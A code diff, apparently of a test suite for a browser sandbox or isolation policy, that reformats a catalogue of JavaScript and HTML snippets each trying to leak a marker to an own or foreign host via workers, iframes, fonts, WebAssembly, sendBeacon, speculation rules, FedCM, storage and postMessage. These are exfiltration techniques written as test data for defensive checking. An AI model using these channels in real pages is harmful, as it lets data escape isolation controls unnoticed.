@@ -104,7 +104,8 @@ ANYWHERE: dict[str, str | tuple[str, Seen]] = {
     """,
     "a worker within, from a blob": WITHIN % (CALLS, BLOB),
     "a worker within, from data": WITHIN % (CALLS, DATA),
-    "a worker within, a module": WITHIN % ("import '${other}/leak?${mark}'; postMessage(true)", BLOB + ", { type: 'module' }"),
+    "a worker within, a module": WITHIN
+    % ("import '${other}/leak?${mark}'; postMessage(true)", BLOB + ", { type: 'module' }"),
     "a worker within, importScripts": WITHIN % ("importScripts('${other}/leak?${mark}'); postMessage(true)", BLOB),
     "a font": "await new FontFace('f', `url('${other}/leak?${mark}')`).load()",
     "wasm by address": "await WebAssembly.compileStreaming(fetch(`${own}/leak?${mark}`))",
@@ -188,7 +189,9 @@ ELEMENTS: dict[str, str] = {
     "<iframe src>, own host": "<iframe src='${own}/leak?${mark}'></iframe>",
     "<iframe src>, data": "<iframe src='data:text/html,<img src=${other}/leak?${mark}>'></iframe>",
     "<iframe srcdoc> with an image": "<iframe srcdoc='<img src=${other}/leak?${mark}>'></iframe>",
-    "<iframe srcdoc> with a script": "<iframe srcdoc='<script>fetch(&quot;${other}/leak?${mark}&quot;)</script>'></iframe>",
+    "<iframe srcdoc> with a script": """
+      <iframe srcdoc='<script>fetch(&quot;${other}/leak?${mark}&quot;)</script>'></iframe>
+    """,
     "<iframe srcdoc> that goes elsewhere": """
       <iframe srcdoc='<meta http-equiv=refresh content="0;url=${other}/leak?${mark}">'></iframe>
     """,
@@ -337,7 +340,8 @@ WINDOW: dict[str, str | tuple[str, Seen]] = {
       await sleep(700);
     """,
     "<script type=speculationrules>": """
-      const text = JSON.stringify({ prefetch: [{ source: 'list', urls: [`${own}/leak?${mark}`], eagerness: 'immediate' }] });
+      const rule = { source: 'list', urls: [`${own}/leak?${mark}`], eagerness: 'immediate' };
+      const text = JSON.stringify({ prefetch: [rule] });
       document.body.append(Object.assign(document.createElement('script'), { type: 'speculationrules', text }));
       await sleep(700);
     """,
@@ -349,7 +353,7 @@ WINDOW: dict[str, str | tuple[str, Seen]] = {
       new XSLTProcessor().importStylesheet(parse(sheet));
       await sleep(700);
     """,
-    "sendBeacon, own host": "if (!navigator.sendBeacon(`${own}/leak?${mark}`)) throw new Error('refused'); await sleep(500)",
+    "sendBeacon, own host": "navigator.sendBeacon(`${own}/leak?${mark}`); await sleep(500)",
     "sendBeacon, foreign host": "navigator.sendBeacon(`${other}/leak`, mark); await sleep(500)",
     "fetchLater": "fetchLater(`${own}/leak?${mark}`, { activateAfter: 0 }); await sleep(700)",
     "SharedWorker by address": "new SharedWorker(`${own}/leak?${mark}`); await sleep(700)",
@@ -366,11 +370,12 @@ WINDOW: dict[str, str | tuple[str, Seen]] = {
         { total: { label: 'x', amount: { currency: 'CNY', value: '1' } } }).canMakePayment();
     """,
     "FedCM": """
-      await navigator.credentials.get({ identity: { providers: [{ configURL: `${own}/leak?${mark}`, clientId: 'x' }] } });
+      const provider = { configURL: `${own}/leak?${mark}`, clientId: 'x' };
+      await navigator.credentials.get({ identity: { providers: [provider] } });
     """,
     "localStorage": ("localStorage.setItem(mark, '1')", "kept"),
     "sessionStorage": ("sessionStorage.setItem(mark, '1')", "kept"),
-    "document.cookie": ("document.cookie = `${mark}=1`; if (!document.cookie) throw new Error('kept nothing')", "kept"),
+    "document.cookie": ("document.cookie = `${mark}=1`", "kept"),
     "message to the opener": ("top.opener.postMessage(mark, '*')", "told"),
     "message to a page beside it": ("top.opener.frames.length; open('', 'observer').postMessage(mark, '*')", "told"),
     "the top page's name": ("top.name += mark", "told"),
